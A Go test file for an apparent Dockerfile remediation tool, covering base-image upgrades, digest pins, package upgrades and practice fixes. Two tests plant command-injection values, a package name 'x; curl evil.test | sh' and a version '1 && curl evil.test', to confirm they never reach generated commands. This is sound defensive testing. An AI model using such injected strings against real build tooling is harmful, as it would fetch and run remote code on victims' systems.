package dockerfile

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/backstitch/backstitch/code"
	docker "github.com/backstitch/backstitch/code/dockerfile"
	"github.com/backstitch/backstitch/fact"
	"github.com/backstitch/backstitch/fix"
	"github.com/backstitch/backstitch/image/advice"
)

const (
	oldDigest = "sha256:0000000000000000000000000000000000000000000000000000000000000000"
	newDigest = "sha256:1111111111111111111111111111111111111111111111111111111111111111"
)

// shelf is what is known of images: tags by repository, packages by reference.
type shelf struct {
	tags     map[string][]string // "tag" or "tag@digest"
	packages map[string][]fact.Package
	digest   string
}

func (s *shelf) Tags(_ context.Context, repository string) ([]fix.ImageTag, error) {
	if repository == "broken.test/x" {
		return nil, errors.New("refused")
	}
	var tags []fix.ImageTag
	for _, text := range s.tags[repository] {
		name, digest, _ := strings.Cut(text, "@")
		tags = append(tags, fix.ImageTag{Name: name, Digest: digest, Source: "test"})
	}
	return tags, nil
}

func (s *shelf) Packages(_ context.Context, reference string) ([]fact.Package, bool, error) {
	packages, ok := s.packages[reference]
	return packages, ok, nil
}

func (s *shelf) Digest(context.Context, string) (string, error) { return s.digest, nil }

// cycles is a shelf that also tells products' releases.
type cycles struct {
	*shelf
	releases map[string][]string
}

func (c cycles) Releases(_ context.Context, repository string) ([]advice.Known, error) {
	var known []advice.Known
	for _, name := range c.releases[repository] {
		known = append(known, advice.Known{Name: name, Release: true, Source: "test"})
	}
	return known, nil
}

func openssl() fix.Flaw {
	return fix.Flaw{Issue: "i1", Kind: fact.Vulnerability, Rules: []string{"CVE-1"}, Package: fact.Package{Ecosystem: "Debian:12", Name: "openssl", Version: "3.0.1"}, Fixed: []string{"3.0.2"}, Findings: 1}
}

func library() *shelf {
	return &shelf{tags: map[string][]string{
		"docker.io/library/python": {"3.11.4-slim", "3.11.9-slim", "3.12.1-slim", "3.11.4-alpine", "3.11.9-alpine3.19", "3.11.4", "3.11.9", "3.12.1"},
		"docker.io/library/golang": {"1.21.1", "1.22.1", "1.22.2", "1.23.0"},
		"docker.io/library/debian": {"12.1", "12.2", "13.0"},
		"docker.io/library/node":   {"latest@" + newDigest, "22.1.0@" + newDigest, "22@" + newDigest, "20.1.0", "18"},
	}}
}

func plans(t testing.TB, fixer fix.Fixer, text string, line int, images fix.Images, flaws ...fix.Flaw) (*fix.Site, []fix.Path) {
	t.Helper()
	site := &fix.Site{Location: fact.Location{Path: "web/Dockerfile", Line: line, EndLine: line}, Tree: code.Files{"web/Dockerfile": []byte(text)}, Images: images, Flaws: flaws}
	paths, err := fixer.(fix.SiteFixer).PlanSite(context.Background(), site)
	if err != nil {
		t.Fatal(err)
	}
	again, err := fixer.(fix.SiteFixer).PlanSite(context.Background(), &fix.Site{Location: site.Location, Tree: site.Tree, Images: images, Flaws: flaws})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(paths, again); diff != "" {
		t.Errorf("planning twice differs: %s", diff)
	}
	for _, path := range paths {
		if path.ID == "" || path.Summary == "" || path.Fixer != ID || len(path.Closes) == 0 || len(path.Steps) == 0 || path.Manual == (len(path.Edits) > 0) {
			t.Errorf("incomplete path %+v", path)
		}
	}
	return site, paths
}

// carried applies the first path whose summary holds a text and gives the file.
func carried(t testing.TB, fixer fix.Fixer, text string, paths []fix.Path, summary string) (string, fix.Path) {
	t.Helper()
	at := slices.IndexFunc(paths, func(p fix.Path) bool { return strings.Contains(p.Summary, summary) })
	if at < 0 {
		var list []string
		for _, p := range paths {
			list = append(list, p.Summary)
		}
		t.Fatalf("no path %q among\n%s", summary, strings.Join(list, "\n"))
	}
	dir, before := t.TempDir(), t.TempDir()
	for _, folder := range []string{dir, before} {
		if err := os.MkdirAll(filepath.Join(folder, "web"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(folder, "web", "Dockerfile"), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	changed, err := fixer.Apply(context.Background(), dir, paths[at])
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"web/Dockerfile"}, changed); diff != "" {
		t.Error(diff)
	}
	checks, err := fixer.(fix.Examiner).Examine(context.Background(), before, dir, paths[at])
	if err != nil || len(checks) != 2 || checks[0].Status != fact.CheckPass || checks[1].Status != fact.CheckSkip || !strings.Contains(checks[1].Detail, "not rebuilt") {
		t.Errorf("checks %+v, error %v", checks, err)
	}
	data, err := os.ReadFile(filepath.Join(dir, "web", "Dockerfile"))
	if err != nil {
		t.Fatal(err)
	}
	return string(data), paths[at]
}

func TestTheBaseMovesAndNothingElse(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		before  string
		line    int
		summary string
		after   string
		risk    string
	}{
		"newest of the same release": {"# a\nFROM python:3.11.4-slim AS web # no\nRUN x\n", 2, "3.11.9-slim", "# a\nFROM python:3.11.9-slim AS web # no\nRUN x\n", "patch"},
		"newer release":              {"from\tpython:3.11.4-slim as web\r\nrun x\r\n", 1, "3.12.1-slim", "from\tpython:3.12.1-slim as web\r\nrun x\r\n", "major"},
		"a release that is no break": {"FROM golang:1.21.1\n", 1, "1.22.2, the next release", "FROM golang:1.22.2\n", "minor"},
		"the newest of the cycle":    {"FROM golang:1.21.1\n", 1, "1.23.0, a newer release", "FROM golang:1.23.0\n", "minor"},
		"next cycle":                 {"FROM debian:12.1\n", 1, "13.0", "FROM debian:13.0\n", "major"},
		"a smaller variant":          {"FROM python:3.11.4\n", 1, "to 3.11.9-alpine3.19", "FROM python:3.11.9-alpine3.19\n", "major"},
		"all stages that share it":   {"FROM python:3.11.4-slim AS a\nFROM debian:12.1 AS b\nFROM --platform=$BUILDPLATFORM python:3.11.4-slim\nCOPY --from=a /x /x\n", 3, "3.11.9-slim", "FROM python:3.11.9-slim AS a\nFROM debian:12.1 AS b\nFROM --platform=$BUILDPLATFORM python:3.11.9-slim\nCOPY --from=a /x /x\n", "patch"},
		"the ARG that decides":       {"ARG V=3.11.4\nARG O=1\nFROM python:${V}-slim\nARG V\n", 3, "3.11.9-slim", "ARG V=3.11.9\nARG O=1\nFROM python:${V}-slim\nARG V\n", "patch"},
		"an ARG of an ARG, quoted":   {"ARG N=\"3.11.4\"\nARG V='x' \\\n  T=${N}-slim\nFROM python:$T\n", 1, "3.11.9-slim", "", ""},
		"a whole reference in ARG":   {"ARG B=\"python:3.11.4-slim\"\nFROM ${B}\nFROM $B AS c\n", 2, "3.12.1-slim", "ARG B=\"python:3.12.1-slim\"\nFROM ${B}\nFROM $B AS c\n", "major"},
		"ARG chains":                 {"ARG N='3.11.4'\nARG T=${N}-slim\nFROM python:$T\n", 3, "3.11.9-slim", "ARG N='3.11.9'\nARG T=${N}-slim\nFROM python:$T\n", "patch"},
		"with a registry":            {"FROM docker.io/library/python:3.11.4-slim\n", 1, "3.11.9-slim", "FROM docker.io/library/python:3.11.9-slim\n", "patch"},
		"continued line":             {"FROM --platform=linux/amd64 \\\n\tpython:3.11.4-slim \\\n\tAS web\n", 1, "3.11.9-slim", "FROM --platform=linux/amd64 \\\n\tpython:3.11.9-slim \\\n\tAS web\n", "patch"},
		"in front of a heredoc":      {"FROM python:3.11.4-slim\nRUN <<EOF\nFROM python:3.11.4-slim\nEOF\nONBUILD RUN FROM python:3.11.4-slim", 1, "3.11.9-slim", "FROM python:3.11.9-slim\nRUN <<EOF\nFROM python:3.11.4-slim\nEOF\nONBUILD RUN FROM python:3.11.4-slim", "patch"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			fixer := New(advice.Catalogue{})
			_, paths := plans(t, fixer, c.before, c.line, library(), openssl())
			if c.after == "" {
				return // a line that decides nothing by itself
			}
			got, path := carried(t, fixer, c.before, paths, c.summary)
			if diff := cmp.Diff(c.after, got); diff != "" {
				t.Error(diff)
			}
			if path.Kind != fix.ChangeBase || path.Risk != c.risk || !slices.Equal(path.Closes, []string{"i1"}) || path.Reach == "" {
				t.Errorf("path %+v, expected a change of the base of risk %s", path, c.risk)
			}
		})
	}
}

func TestAPinnedTagMovesWithItsDigest(t *testing.T) {
	t.Parallel()
	text := "FROM python:3.11.4-slim@" + oldDigest + "\n"
	fixer := New(advice.Catalogue{})
	images := library()
	images.digest = newDigest
	_, paths := plans(t, fixer, text, 1, images, openssl())
	got, _ := carried(t, fixer, text, paths, "to 3.11.9-slim")
	if want := "FROM python:3.11.9-slim@" + newDigest + "\n"; got != want {
		t.Errorf("got %q, expected %q", got, want)
	}
	got, _ = carried(t, fixer, text, paths, "move the digest")
	if want := "FROM python:3.11.4-slim@" + newDigest + "\n"; got != want {
		t.Errorf("got %q, expected %q", got, want)
	}
	_, paths = plans(t, fixer, text, 1, library(), openssl())
	for _, path := range paths {
		if path.Kind == fix.ChangeBase && !path.Manual {
			t.Errorf("%s: a pin is given up, or moved to a digest that nobody told", path.Summary)
		}
	}
}

func TestReleasesThatNoTagListsAreSaidToBeUnchecked(t *testing.T) {
	t.Parallel()
	fixer := New(advice.Catalogue{})
	known := cycles{&shelf{}, map[string][]string{"docker.io/library/golang": {"1.22.9"}, "docker.io/library/debian": {"12", "13", "12.5"}, "docker.io/library/node": {"22", "23"}}}
	for text, want := range map[string][2]string{
		"FROM golang:1.22.1-alpine3.19\n":                         {"to 1.22.9-alpine", "FROM golang:1.22.9-alpine\n"},
		"FROM gcr.io/distroless/nodejs20-debian12:nonroot AS a\n": {"with node 22", "FROM gcr.io/distroless/nodejs22-debian12:nonroot AS a\n"},
		"FROM gcr.io/distroless/static-debian12\n":                {"with Debian 13", "FROM gcr.io/distroless/static-debian13\n"},
	} {
		_, paths := plans(t, fixer, text, 1, known, openssl())
		got, path := carried(t, fixer, text, paths, want[0])
		if got != want[1] || !strings.Contains(fmt.Sprint(path.Steps), "not checked") {
			t.Errorf("%q becomes %q by %+v", text, got, path.Steps)
		}
	}
}

func TestADigestWithoutATagIsNamed(t *testing.T) {
	t.Parallel()
	fixer := New(advice.Catalogue{})
	images := library()
	images.digest = newDigest
	text := "FROM node@" + oldDigest + "\n"
	_, paths := plans(t, fixer, text, 1, images, openssl())
	got, path := carried(t, fixer, text, paths, "newest release")
	if want := "FROM node:22.1.0@" + newDigest + "\n"; got != want || path.Risk != fix.RiskUnknown {
		t.Errorf("got %q of risk %s, expected %q", got, path.Risk, want)
	}
	_, paths = plans(t, fixer, "FROM own.test/a@"+oldDigest+"\n", 1, images, openssl())
	if len(paths) == 0 || !slices.ContainsFunc(paths, func(p fix.Path) bool { return p.Kind == fix.ChangeBase && p.Manual }) {
		t.Errorf("paths %+v, expected one by hand", paths)
	}
}

func TestWhatANewBaseHoldsDecidesWhatItCloses(t *testing.T) {
	t.Parallel()
	images := library()
	images.packages = map[string][]fact.Package{
		"docker.io/library/python:3.11.9-slim":       {{Ecosystem: "Debian:12", Name: "openssl", Version: "3.0.1"}},
		"docker.io/library/python:3.12.1-slim":       {{Ecosystem: "Debian:12", Name: "openssl", Version: "3.0.11"}},
		"docker.io/library/python:3.11.9-alpine3.19": {{Ecosystem: "Alpine:v3.19", Name: "openssl", Version: "3.0.0"}},
	}
	_, paths := plans(t, New(advice.Catalogue{}), "FROM python:3.11.4-slim\n", 1, images, openssl())
	var to []string
	for _, path := range paths {
		for _, change := range path.Changes {
			if path.Kind == fix.ChangeBase {
				to = append(to, change.To)
			}
		}
	}
	if diff := cmp.Diff([]string{"3.12.1-slim", "3.11.9-alpine3.19"}, to); diff != "" {
		t.Error(diff)
	}
}

func TestWithoutAReleasedFixATagIsNoPromise(t *testing.T) {
	t.Parallel()
	flaw := openssl()
	flaw.Fixed = nil
	if _, paths := plans(t, New(advice.Catalogue{Prefix: "h.test"}), "FROM python:3.11.4-slim\n", 1, library(), flaw); len(paths) > 0 {
		t.Errorf("paths %+v although no fix was released and no inventory is known", paths)
	}
}

func TestARuntimeIsClosedByTheVersionOfItsTag(t *testing.T) {
	t.Parallel()
	flaw := fix.Flaw{Issue: "i1", Kind: fact.Vulnerability, Package: fact.Package{Name: "python", Version: "3.11.4"}, Fixed: []string{"3.12.0"}}
	_, paths := plans(t, New(advice.Catalogue{}), "FROM python:3.11.4-slim\n", 1, library(), flaw)
	for _, path := range paths {
		if path.Kind == fix.ChangeBase && path.Changes[0].To != "3.12.1-slim" {
			t.Errorf("%s closes what is mended in 3.12.0", path.Summary)
		}
	}
	if len(paths) == 0 {
		t.Error("no path")
	}
}

func TestPackagesOfTheBaseAreUpgradedBehindIt(t *testing.T) {
	t.Parallel()
	fixer := New(advice.Catalogue{})
	zlib := openssl()
	zlib.Issue, zlib.Package.Name = "i2", "zlib1g"
	hostile := openssl()
	hostile.Issue, hostile.Package.Name = "i3", "x; curl evil.test | sh"
	text := "FROM debian:12.1 AS b\r\nRUN make\r\nFROM debian:12.1\r\nUSER 1\r\n"
	_, paths := plans(t, fixer, text, 3, nil, openssl(), zlib, hostile)
	got, path := carried(t, fixer, text, paths, "upgrade openssl, zlib1g behind")
	want := "FROM debian:12.1 AS b\r\nRUN make\r\nFROM debian:12.1\r\nRUN apt-get update && apt-get install -y --no-install-recommends --only-upgrade openssl zlib1g && rm -rf /var/lib/apt/lists/*\r\nUSER 1\r\n"
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]string{"i1", "i2"}, path.Closes); diff != "" {
		t.Error(diff)
	}
	kinds := map[string]fix.Path{}
	for _, p := range paths {
		kinds[p.Kind] = p
	}
	if p := kinds[fix.Rebuild]; !p.Manual || !strings.Contains(p.Steps[0].Command, "--no-cache") {
		t.Errorf("rebuild %+v", p)
	}
	if p := kinds[fix.PatchLayer]; !p.Manual || !p.Temporary || p.Expires == 0 || len(p.Undo) == 0 || !strings.Contains(fmt.Sprint(p.Steps), "stay in the layers below") {
		t.Errorf("patch layer %+v", p)
	}
	if strings.Contains(fmt.Sprint(paths), "evil.test") {
		t.Error("a package's name of a report reached a command")
	}
	for ecosystem, want := range map[string]string{"Alpine:v3.18": "RUN apk upgrade --no-cache openssl", "Red Hat:9": "RUN dnf -y upgrade openssl && dnf clean all"} {
		flaw := openssl()
		flaw.Package.Ecosystem = ecosystem
		_, paths := plans(t, fixer, "FROM a:1\n", 1, nil, flaw)
		if got, _ := carried(t, fixer, "FROM a:1\n", paths, "upgrade openssl"); got != "FROM a:1\n"+want+"\n" {
			t.Errorf("%s: %q", ecosystem, got)
		}
	}
	site, paths := plans(t, fixer, "FROM gcr.io/distroless/cc-debian12:nonroot\n", 1, nil, openssl())
	if slices.ContainsFunc(paths, func(p fix.Path) bool { return p.Kind == fix.UpgradePackage }) || !strings.Contains(strings.Join(site.Blocked, " "), "no package manager") {
		t.Errorf("an image without a package manager gets %+v, blocked %q", paths, site.Blocked)
	}
}

func TestAPinnedPackageOfOurOwnLineIsRaised(t *testing.T) {
	t.Parallel()
	fixer := New(advice.Catalogue{})
	for before, after := range map[string]string{
		"FROM a:1\nRUN apt-get install -y curl \\\n  # pinned\n  openssl=3.0.1 && x openssl=3.0.1\n": "FROM a:1\nRUN apt-get install -y curl \\\n  # pinned\n  openssl=3.0.2 && x openssl=3.0.1\n",
		"FROM a:1\nRUN apk add \"openssl=3.0.1\"\n":                                                  "FROM a:1\nRUN apk add \"openssl=3.0.2\"\n",
		"FROM a:1\nRUN yum -y install openssl-3.0.1\n":                                               "FROM a:1\nRUN yum -y install openssl-3.0.2\n",
	} {
		_, paths := plans(t, fixer, before, 2, nil, openssl())
		if got, _ := carried(t, fixer, before, paths, "raise the pinned openssl"); got != after {
			t.Error(cmp.Diff(after, got))
		}
	}
	_, paths := plans(t, fixer, "FROM a:1\nRUN apt-get install -y openssl\n", 2, nil, openssl())
	if len(paths) != 3 || paths[0].Kind != fix.Rebuild || !paths[0].Manual || paths[1].Kind != fix.UpgradePackage || paths[2].Kind != fix.PatchLayer {
		t.Errorf("an unpinned package gets %+v", paths)
	}
	hostile := openssl()
	hostile.Fixed = []string{"1 && curl evil.test"}
	if _, paths := plans(t, fixer, "FROM a:1\nRUN apk add openssl=3.0.1\n", 2, nil, hostile); strings.Contains(fmt.Sprint(paths), "evil.test") {
		t.Error("a version of a report reached a command")
	}
}

func practiceFlaw(rule string) fix.Flaw {
	return fix.Flaw{Issue: "i1", Kind: fact.Misconfiguration, Rules: []string{rule}, Findings: 1}
}

func TestRulesOfGoodPracticeAreMendedInTheWholeStage(t *testing.T) {
	t.Parallel()
	fixer := New(advice.Catalogue{})
	text := "FROM a:1 AS b\nRUN apk add x\nFROM a:1\nRUN apk add y\nRUN apk add --no-cache z\nRUN apk add w\n"
	_, paths := plans(t, fixer, text, 4, nil, practiceFlaw("DL3019"))
	got, path := carried(t, fixer, text, paths, "no-cache")
	want := "FROM a:1 AS b\nRUN apk add x\nFROM a:1\nRUN apk add --no-cache y\nRUN apk add --no-cache z\nRUN apk add --no-cache w\n"
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if path.Reach != "2 instructions of the stage" || path.Kind != fix.EditValue {
		t.Errorf("path %+v", path)
	}
	for rule, manual := range map[string]bool{"ds-0026": true, "AVD-DS-0002": false, "CKV_DOCKER_3": false} {
		_, paths := plans(t, fixer, "FROM a:1\nRUN x\nCMD y\n", 1, nil, practiceFlaw(rule))
		if len(paths) != 1 || paths[0].Manual != manual {
			t.Errorf("%s gives %+v", rule, paths)
		}
	}
	if _, paths := plans(t, fixer, "ARG A\nFROM a:1\n", 0, nil, practiceFlaw("DS002")); len(paths) != 1 {
		t.Errorf("a flaw of the file as a whole gives %+v", paths)
	}
	if _, paths := plans(t, fixer, "FROM a:1\n", 1, nil, practiceFlaw("unknown-rule")); len(paths) > 0 {
		t.Errorf("a rule that nobody knows gives %+v", paths)
	}
}

func TestASecretIsChangedFirst(t *testing.T) {
	t.Parallel()
	flaw := practiceFlaw("DS-0031")
	flaw.Kind = fact.Secret
	_, paths := plans(t, New(advice.Catalogue{}), "FROM a:1\nENV API_TOKEN=abcdefgh\n", 2, nil, flaw)
	if len(paths) != 1 || paths[0].Kind != fix.Rotate || !paths[0].Manual || strings.Contains(fmt.Sprint(paths), "abcdefgh") {
		t.Errorf("paths %+v, expected rotation by hand that does not repeat the secret", paths)
	}
}

func TestABaseWithoutAReleaseIsNamedOrPinned(t *testing.T) {
	t.Parallel()
	fixer := New(advice.Catalogue{})
	for _, text := range []string{"FROM node\n", "FROM node:latest\n"} {
		_, paths := plans(t, fixer, text, 1, library(), practiceFlaw("DL3006"))
		if got, path := carried(t, fixer, text, paths, "name the release"); got != "FROM node:22.1.0\n" || path.Risk != fix.RiskPatch {
			t.Errorf("%q becomes %q, risk %s", text, got, path.Risk)
		}
		if got, path := carried(t, fixer, text, paths, "pin the digest"); got != strings.TrimSpace(text)+"@"+newDigest+"\n" || path.Kind != fix.PinDigest {
			t.Errorf("%q becomes %q", text, got)
		}
	}
	site, paths := plans(t, fixer, "FROM own.test/a\n", 1, library(), practiceFlaw("DL3006"))
	if len(paths) > 0 || len(site.Blocked) == 0 {
		t.Errorf("paths %+v, blocked %q", paths, site.Blocked)
	}
}

func TestTheHardenedPathConvertsTheFile(t *testing.T) {
	t.Parallel()
	fixer := New(advice.Catalogue{Prefix: "hardened.test"})
	text := "FROM debian:12.1\nRUN apt-get update && apt-get install -y curl\nUSER 1\n"
	_, paths := plans(t, fixer, text, 1, library(), openssl())
	got, path := carried(t, fixer, text, paths, "hardened:")
	if want := "FROM hardened.test/base:latest\nUSER root\nRUN apk add --no-cache curl\nUSER 1\n"; got != want || path.Risk != fix.RiskMajor {
		t.Error(cmp.Diff(want, got))
	}
	if !strings.Contains(fmt.Sprint(path.Steps), "not known here") {
		t.Error("that the hardened image's packages are not known is not said")
	}
}

func TestAnEndOfLifeIsClosedByAnotherCycleOnly(t *testing.T) {
	t.Parallel()
	flaw := fix.Flaw{Issue: "i1", Kind: fact.EndOfLife, Package: fact.Package{Name: "library/python"}}
	_, paths := plans(t, New(advice.Catalogue{}), "FROM python:3.11.4-slim\n", 1, library(), flaw)
	for _, path := range paths {
		if path.Changes[0].To == "3.11.9-slim" {
			t.Errorf("%s closes the end of 3.11", path.Summary)
		}
	}
	if len(paths) == 0 {
		t.Error("no path")
	}
}

func TestACycleThatEndedTooClosesNoEnd(t *testing.T) {
	t.Parallel()
	flaw := fix.Flaw{Issue: "i1", Kind: fact.EndOfLife, Package: fact.Package{Name: "library/node"}}
	known := cycles{&shelf{tags: map[string][]string{"docker.io/library/node": {"16", "20", "22", "24"}}}, map[string][]string{"docker.io/library/node": {"16.20.2", "20.19.0", "22", "22.9.0", "24"}}}
	_, paths := plans(t, New(advice.Catalogue{}), "FROM node:14\n", 1, known, flaw)
	var to []string
	for _, path := range paths {
		to = append(to, path.Changes[0].To)
	}
	if diff := cmp.Diff([]string{"24"}, to); diff != "" {
		t.Error(diff)
	}
}

func TestWhatCannotBePlannedSaysWhy(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"ARG V\nFROM python:${V}\n": "has no default",
		"FROM broken.test/x:1\n":    "refused",
		"FROM own.test/x:1\n":       "no tags of own.test/x are known",
		"FROM a:1\n" + strings.Repeat("# 0123456789\n", docker.MaxFile/13+1): "larger than 1 MiB",
	} {
		line := 1 + strings.Count(text[:strings.Index(text, "FROM")], "\n")
		site, paths := plans(t, New(advice.Catalogue{}), text, line, library(), fix.Flaw{Issue: "i1", Kind: fact.Vulnerability})
		if len(paths) > 0 || !strings.Contains(strings.Join(site.Blocked, "\n"), want) {
			t.Errorf("%.40q: blocked %q, %d paths, expected %q", text, site.Blocked, len(paths), want)
		}
	}
	for _, text := range []string{"FROM scratch\n", "FROM python:3.11.4-slim\nRUN x\n"} {
		if _, paths := plans(t, New(advice.Catalogue{}), text, min(2, strings.Count(text, "\n")), library(), fix.Flaw{Issue: "i1", Kind: fact.Vulnerability}); len(paths) > 0 {
			t.Errorf("%q: %+v", text, paths)
		}
	}
	site := &fix.Site{Location: fact.Location{Path: "main.tf", Line: 1}, Tree: code.Files{}, Flaws: []fix.Flaw{openssl()}}
	if paths, err := New(advice.Catalogue{}).(fix.SiteFixer).PlanSite(context.Background(), site); err != nil || len(paths) > 0 {
		t.Errorf("another file gives %+v, %v", paths, err)
	}
}

func TestAVariableThatDecidesAboutOtherImagesIsNotChanged(t *testing.T) {
	t.Parallel()
	text := "ARG V=3.11.4\nFROM python:${V}-slim\nFROM own.test/tool:${V}\n"
	_, paths := plans(t, New(advice.Catalogue{}), text, 2, library(), openssl())
	for _, path := range paths {
		if path.Kind == fix.ChangeBase && !path.Manual {
			t.Errorf("%s would change the other image too", path.Summary)
		}
	}
}

func TestAnEditThatTouchesMoreIsRefused(t *testing.T) {
	t.Parallel()
	before := []byte("FROM a:1\nRUN x\nCMD y\n")
	for _, after := range []string{"FROM a:2\nRUN z\nCMD y\n", "FROM a:2\nCMD y\n", "FROM a:2\nFROM b\nRUN x\nCMD y\n", "FROM a:2\nRUN x\nCMD y\nBAD\n", "RUN x\n"} {
		if err := onlyPlanned("Dockerfile", before, []byte(after), []fix.FileEdit{fix.NewFileEdit("Dockerfile", before, 5, 8, "a:2")}); err == nil {
			t.Errorf("%q passes for an edit of the first line", after)
		}
	}
	if err := onlyPlanned("Dockerfile", before, []byte("FROM a:2\nRUN x\nCMD y\n"), []fix.FileEdit{fix.NewFileEdit("Dockerfile", before, 5, 8, "a:2")}); err != nil {
		t.Error(err)
	}
}

func TestApplyRefusesWhatPeopleDo(t *testing.T) {
	t.Parallel()
	if _, err := New(advice.Catalogue{}).Apply(context.Background(), t.TempDir(), fix.Path{Manual: true}); err == nil {
		t.Error("a path by hand was carried out")
	}
	if d := New(advice.Catalogue{}).Describe(); d.ID == "" || d.Name == "" || d.Docs == "" {
		t.Errorf("Describe() = %+v", d)
	}
}
